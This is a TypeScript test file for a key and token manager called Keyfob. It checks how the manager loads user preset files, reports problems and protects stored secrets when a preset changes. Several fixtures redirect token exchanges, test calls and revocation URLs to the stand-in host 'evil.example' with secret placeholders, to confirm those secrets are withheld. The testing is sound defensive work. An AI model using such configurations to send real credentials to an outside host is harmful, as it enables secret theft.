import { describe, expect, it } from 'vitest';
import { callHandlers } from '#app/handle-calls';
import type { KeyId } from '#core/api-key';
import type { Preset } from '#core/providers/preset';
import { readPresetFile } from '#core/providers/read-preset-file';
import { MemoryShell } from '../fakes/memory-shell.ts';
import { json } from '../fakes/scripted-http.ts';
import { draft, KeyfobInMemory } from './keyfob-in-memory.ts';

interface Acme {
  host: string;
  id?: string;
  name?: string;
  rest?: object;
}

/** The text of a small preset file. */
function acme({ host, id = 'acme', name = 'Acme', rest = {} }: Acme): string {
  const exchange = {
    request: {
      method: 'POST',
      url: `https://${host}/token`,
      body: { kind: 'json', members: { key: '{{apiKey}}' } },
    },
  };
  const fields = [{ id: 'apiKey', label: 'API key', kind: 'secret' }];
  return JSON.stringify({ id, name, keyKind: 'exchange', fields, exchange, ...rest });
}

const good = acme({ host: 'acme.example' });

function staticPreset(): string {
  const fields = [{ id: 'apiKey', label: 'API key', kind: 'secret' }];
  return JSON.stringify({ id: 'acme', name: 'Acme', keyKind: 'static', tokenField: 'apiKey', fields });
}

async function withFiles(files: Record<string, string>): Promise<KeyfobInMemory> {
  const keyfob = new KeyfobInMemory();
  for (const [name, text] of Object.entries(files)) keyfob.presetFiles.put(name, text);
  await keyfob.app.start();
  return keyfob;
}

async function put(keyfob: KeyfobInMemory, name: string, text: string): Promise<void> {
  keyfob.presetFiles.put(name, text);
  await keyfob.time.advance(1_000);
}

async function remove(keyfob: KeyfobInMemory, name: string): Promise<void> {
  await keyfob.presetFiles.remove(name);
  await keyfob.time.advance(1_000);
}

const acmeDraft = () => draft({ presetId: 'acme', fields: { apiKey: 'canary-acme-key' } });
const addAcme = (keyfob: KeyfobInMemory) => keyfob.add(acmeDraft());
const userPresets = (keyfob: KeyfobInMemory) =>
  keyfob.app
    .snapshot()
    .presets.filter(({ source }) => source === 'user')
    .map(({ id }) => id);
const problems = (keyfob: KeyfobInMemory) => keyfob.app.snapshot().presetProblems;
const failureOf = (keyfob: KeyfobInMemory, id: KeyId) =>
  keyfob.app.snapshot().keys.find((key) => key.id === id)?.token.failure;
const hosts = (keyfob: KeyfobInMemory) => keyfob.http.requests.map(({ url }) => new URL(url).host);
const presetChanged = { kind: 'invalidInput', step: 'prepare', reason: 'presetChanged' };

describe('a preset file', () => {
  it('that is there at start makes a provider, after the shipped ones and by name', async () => {
    const files = {
      'z.json': acme({ host: 'a.example', id: 'first', name: 'A' }),
      'acme.json': acme({ host: 'b.example', name: 'B' }),
    };
    const keyfob = await withFiles(files);
    expect(userPresets(keyfob)).toEqual(['first', 'acme']);
    expect(
      keyfob.app
        .snapshot()
        .presets.slice(-2)
        .map(({ id }) => id),
    ).toEqual(['first', 'acme']);
    expect(problems(keyfob)).toEqual([]);
  });

  it('dropped while Keyfob runs makes a provider, and a key of it copies a token', async () => {
    const keyfob = await KeyfobInMemory.start();
    await put(keyfob, 'acme.json', good);
    expect(userPresets(keyfob)).toEqual(['acme']);
    const id = await addAcme(keyfob);
    const copied = await keyfob.app.copy.copy(id);
    expect(copied.ok).toBe(true);
    expect(keyfob.clipboard.text).toBe('token-1');
    expect(keyfob.http.requests[0]).toMatchObject({ url: 'https://acme.example/token' });
    expect(keyfob.http.requests[0]?.body).toContain('canary-acme-key');
  });

  it('that breaks is told with its place, and its keys go on until it is mended', async () => {
    const keyfob = await withFiles({ 'acme.json': good });
    const id = await addAcme(keyfob);
    await put(keyfob, 'acme.json', good.replace('"url"', '"urls"'));
    expect(problems(keyfob)).toEqual([
      {
        file: 'acme.json',
        path: 'exchange.request.urls',
        fix: 'there is no member of this name here: did you mean "url"?',
      },
      { file: 'acme.json', path: '', fix: expect.stringContaining('goes on with what the file said before') },
    ]);
    const renewed = await keyfob.app.tokens.renew(id);
    expect(renewed.ok).toBe(true);
    expect(keyfob.stateOf(id)).toBe('fresh');
    await put(keyfob, 'acme.json', good);
    expect(problems(keyfob)).toEqual([]);
  });

  it('that is broken at start makes no provider, and says where', async () => {
    const keyfob = await withFiles({ 'acme.json': `${good.slice(0, -1)},}` });
    expect(userPresets(keyfob)).toEqual([]);
    expect(problems(keyfob)).toEqual([
      { file: 'acme.json', path: `line 1, column ${good.length}`, fix: expect.stringContaining('comma') },
    ]);
  });

  it('that was not read says why', async () => {
    const keyfob = await KeyfobInMemory.start();
    for (const unread of ['notRegular', 'tooLarge', 'notUtf8', 'unreadable'] as const)
      keyfob.presetFiles.put(`${unread}.json`, { unread });
    await keyfob.time.advance(0);
    const told = problems(keyfob);
    expect(told.map(({ file }) => file)).toEqual([
      'notRegular.json',
      'notUtf8.json',
      'tooLarge.json',
      'unreadable.json',
    ]);
    for (const { path, fix } of told) {
      expect(path).toBe('');
      expect(fix).toMatch(/: /);
    }
    expect(told[2]?.fix).toContain('64 KiB');
  });

  it('above the limit is not read, and that is said', async () => {
    const keyfob = new KeyfobInMemory();
    for (let number = 0; number < 201; number++) {
      const id = `p${String(number).padStart(3, '0')}`;
      keyfob.presetFiles.put(`${id}.json`, acme({ host: 'acme.example', id }));
    }
    await keyfob.app.start();
    expect(userPresets(keyfob)).toHaveLength(200);
    expect(problems(keyfob)).toEqual([
      { file: 'presets', path: '', fix: 'only the first 200 files are read: remove 1' },
    ]);
  });

  it('with the id of a shipped provider does not take its place', async () => {
    const keyfob = await withFiles({ 'mine.json': acme({ host: 'evil.example', id: 'celerdata' }) });
    expect(userPresets(keyfob)).toEqual([]);
    expect(problems(keyfob)).toEqual([
      { file: 'mine.json', path: 'id', fix: expect.stringContaining('choose another id') },
    ]);
    await keyfob.add();
    expect(hosts(keyfob)).toEqual(['cloud-api.celerdata.com']);
  });

  it('with the id of another file does not take its place', async () => {
    const keyfob = await withFiles({ 'acme.json': good });
    const id = await addAcme(keyfob);
    await put(keyfob, 'a-copy.json', acme({ host: 'evil.example' }));
    expect(problems(keyfob)).toEqual([
      { file: 'a-copy.json', path: 'id', fix: expect.stringContaining('"acme" is the id of acme.json') },
    ]);
    await keyfob.app.tokens.renew(id);
    expect(new Set(hosts(keyfob))).toEqual(new Set(['acme.example']));
    await keyfob.restart();
    expect(problems(keyfob)[0]?.file).toBe('a-copy.json');
  });

  it('keeps what was read when the folder cannot be read for once', async () => {
    const keyfob = await withFiles({ 'acme.json': good });
    keyfob.presetFiles.isBroken = true;
    await put(keyfob, 'acme.json', good);
    expect(userPresets(keyfob)).toEqual(['acme']);
    expect(problems(keyfob)).toEqual([
      { file: 'presets', path: '', fix: expect.stringContaining('cannot be read') },
    ]);
  });
});

describe('a key whose preset file is gone', () => {
  it('says so, asks nobody, and recovers when the file is back', async () => {
    const keyfob = await withFiles({ 'acme.json': good });
    const id = await addAcme(keyfob);
    await remove(keyfob, 'acme.json');
    expect(failureOf(keyfob, id)).toEqual({ kind: 'presetNotFound' });
    expect(keyfob.stateOf(id)).toBe('needsYou');
    await keyfob.time.advance(7_200_000);
    expect(keyfob.http.requests).toHaveLength(1);
    await put(keyfob, 'renamed.json', good);
    expect(keyfob.stateOf(id)).toBe('fresh');
    expect(keyfob.http.requests).toHaveLength(2);
  });

  it('is the same after a restart', async () => {
    const keyfob = await withFiles({ 'acme.json': good });
    const id = await addAcme(keyfob);
    await remove(keyfob, 'acme.json');
    await keyfob.restart();
    expect(failureOf(keyfob, id)).toEqual({ kind: 'presetNotFound' });
    await put(keyfob, 'acme.json', good);
    expect(keyfob.stateOf(id)).toBe('fresh');
    expect(keyfob.http.requests).toHaveLength(1);
  });

  it('that its provider refused stays refused', async () => {
    const keyfob = await withFiles({ 'acme.json': good });
    keyfob.http.answerWith(json(401, { error: 'invalid_client' }));
    const id = await addAcme(keyfob);
    await remove(keyfob, 'acme.json');
    await put(keyfob, 'acme.json', good);
    await keyfob.time.advance(7_200_000);
    expect(keyfob.stateOf(id)).toBe('rejected');
    expect(failureOf(keyfob, id)).toEqual({ kind: 'refused' });
    expect(keyfob.http.requests).toHaveLength(1);
  });
});

describe('a stored secret', () => {
  const elsewhere = acme({ host: 'evil.example' });

  it('goes nowhere else because a file changed, until the user saves the key', async () => {
    const keyfob = await withFiles({ 'acme.json': good });
    const id = await addAcme(keyfob);
    await put(keyfob, 'acme.json', elsewhere);
    expect(failureOf(keyfob, id)).toEqual(presetChanged);
    expect(await keyfob.app.tokens.renew(id, true)).toEqual({ ok: false, failure: presetChanged });
    expect(await keyfob.app.copy.copy(id)).toEqual({ ok: false, failure: presetChanged });
    const kept = { ...acmeDraft(), fields: {} };
    expect(await keyfob.app.tests.run('a-run', id, kept)).toEqual({ ok: false, failure: presetChanged });
    await keyfob.time.advance(86_400_000);
    await keyfob.restart();
    expect(failureOf(keyfob, id)).toEqual(presetChanged);
    await keyfob.time.advance(86_400_000);
    expect(new Set(hosts(keyfob))).toEqual(new Set(['acme.example']));

    expect((await keyfob.app.keys.edit(id, kept)).ok).toBe(true);
    await keyfob.time.advance(0);
    expect(keyfob.stateOf(id)).toBe('fresh');
    expect(hosts(keyfob).at(-1)).toBe('evil.example');
    await keyfob.app.copy.copy(id);
    expect(keyfob.clipboard.text).toBe(keyfob.http.issued.at(-1));
  });

  it('may be used again when the file says what it said before', async () => {
    const keyfob = await withFiles({ 'acme.json': good });
    const id = await addAcme(keyfob);
    await put(keyfob, 'acme.json', elsewhere);
    await put(keyfob, 'acme.json', good);
    expect(keyfob.stateOf(id)).toBe('fresh');
  });

  it('stays where it is when a file vanishes and another one takes its id', async () => {
    const keyfob = await withFiles({ 'acme.json': good });
    const id = await addAcme(keyfob);
    await remove(keyfob, 'acme.json');
    await put(keyfob, 'other.json', elsewhere);
    expect(failureOf(keyfob, id)).toEqual(presetChanged);
    await keyfob.app.tokens.renew(id);
    expect(hosts(keyfob)).toEqual(['acme.example']);
  });

  it('may be used on when a file only changed in what it shows or how it judges answers', async () => {
    const keyfob = await withFiles({ 'acme.json': good });
    const id = await addAcme(keyfob);
    const preset = JSON.parse(good);
    preset.exchange.answer = { defaultLifetimeS: 600, error: { message: ['detail'] } };
    preset.fields[0] = { help: 'On the page of your account.', ...preset.fields[0], label: 'Key' };
    await put(keyfob, 'acme.json', JSON.stringify({ summary: 'New', ...preset, name: 'ACME' }));
    expect(failureOf(keyfob, id)).toBeNull();
    expect((await keyfob.app.tokens.renew(id)).ok).toBe(true);
  });

  it.each<[string, (preset: Record<string, never>) => void]>([
    ['a header', (p) => Object.assign(p['exchange']['request'], { headers: { 'X-Key': '{{apiKey}}' } })],
    ['a query', (p) => Object.assign(p['exchange']['request'], { query: { a: 'b' } })],
    [
      'a test call',
      (p) =>
        Object.assign(p, {
          testCall: { request: { url: 'https://evil.example/', headers: { a: '{{token}}' } } },
        }),
    ],
    [
      'a revocation',
      (p) => Object.assign(p, { revocation: { request: { url: 'https://evil.example/{{apiKey.x}}' } } }),
    ],
    ['what is copied', (p) => Object.assign(p, { apiCall: { url: 'https://evil.example', envName: 'A' } })],
    [
      'outputs',
      (p) =>
        Object.assign(p['exchange'], {
          answer: { outputs: [{ id: 'x', label: 'X', path: 'access_token' }] },
        }),
    ],
    ['its kind', (p) => Object.assign(p, JSON.parse(staticPreset()), { exchange: undefined })],
  ])('waits for the user when %s of its preset changed', async (what, change) => {
    const keyfob = await withFiles({ 'acme.json': good });
    const id = await addAcme(keyfob);
    const preset = JSON.parse(good);
    change(preset);
    await put(keyfob, 'acme.json', JSON.stringify(preset));
    // A file that cannot be used changes nothing at all.
    const isBroken = what === 'a revocation';
    expect(problems(keyfob).length > 0).toBe(isBroken);
    expect(failureOf(keyfob, id)).toEqual(isBroken ? null : presetChanged);
  });
});

it('a key becomes static with its preset, once it is saved', async () => {
  const keyfob = await withFiles({ 'acme.json': good });
  const id = await addAcme(keyfob);
  await put(keyfob, 'acme.json', staticPreset());
  const kept = { ...acmeDraft(), fields: {} };
  await keyfob.app.keys.edit(id, kept);
  await keyfob.time.advance(0);
  await keyfob.app.copy.copy(id);
  expect(keyfob.clipboard.text).toBe('canary-acme-key');
  expect(keyfob.http.requests).toHaveLength(1);
});

describe('adding a preset', () => {
  function parsed(text: string): Preset {
    const reading = readPresetFile(text);
    if (!reading.ok) throw new Error(JSON.stringify(reading.problems));
    return reading.preset;
  }

  it('writes a file that says the same, and removing it takes the provider away', async () => {
    const keyfob = await KeyfobInMemory.start();
    const added = await keyfob.app.userPresets.add(parsed(good));
    expect(added).toEqual({ ok: true, value: parsed(good) });
    expect(parsed(keyfob.presetFiles.textOf('acme.json') ?? '')).toEqual(parsed(good));
    expect(userPresets(keyfob)).toEqual(['acme']);
    expect(await keyfob.app.userPresets.remove('acme')).toEqual({ ok: true, value: undefined });
    expect(userPresets(keyfob)).toEqual([]);
    expect(await keyfob.app.userPresets.remove('celerdata')).toEqual({ ok: true, value: undefined });
  });

  it('finds an id that no provider, file or key has', async () => {
    const keyfob = await withFiles({ 'acme.json': good, 'acme-2.json': 'broken' });
    await addAcme(keyfob);
    await remove(keyfob, 'acme.json');
    const added = await keyfob.app.userPresets.add(parsed(good));
    expect(added.ok && added.value.id).toBe('acme-3');
    const shipped = await keyfob.app.userPresets.add(parsed(acme({ host: 'a.example', id: 'layar' })));
    expect(shipped.ok && shipped.value.id).toBe('layar-2');
    expect(keyfob.presetFiles.textOf('acme-2.json')).toBe('broken');
  });

  it('takes turns when two are added at once', async () => {
    const keyfob = await KeyfobInMemory.start();
    const added = await Promise.all([1, 2, 3].map(() => keyfob.app.userPresets.add(parsed(good))));
    expect(added.map((each) => each.ok && each.value.id)).toEqual(['acme', 'acme-2', 'acme-3']);
  });

  it('reports a disk that takes nothing', async () => {
    const keyfob = await KeyfobInMemory.start();
    keyfob.presetFiles.isBroken = true;
    const failed = { ok: false, failure: { kind: 'presetFolderFailed' } };
    expect(await keyfob.app.userPresets.add(parsed(good))).toEqual(failed);
    expect(userPresets(keyfob)).toEqual([]);
  });
});

it('the page can have the folder opened, and does not choose which', async () => {
  const keyfob = await KeyfobInMemory.start();
  const shell = new MemoryShell();
  const calls = callHandlers(keyfob.app, shell);
  expect(await calls['presets.openFolder']({})).toEqual({ ok: true, value: {} });
  expect(shell.opened).toEqual(['/memory/presets']);
  keyfob.presetFiles.isBroken = true;
  expect(await calls['presets.openFolder']({})).toEqual({
    ok: false,
    failure: { kind: 'presetFolderFailed' },
  });
  expect(shell.opened).toHaveLength(1);
});
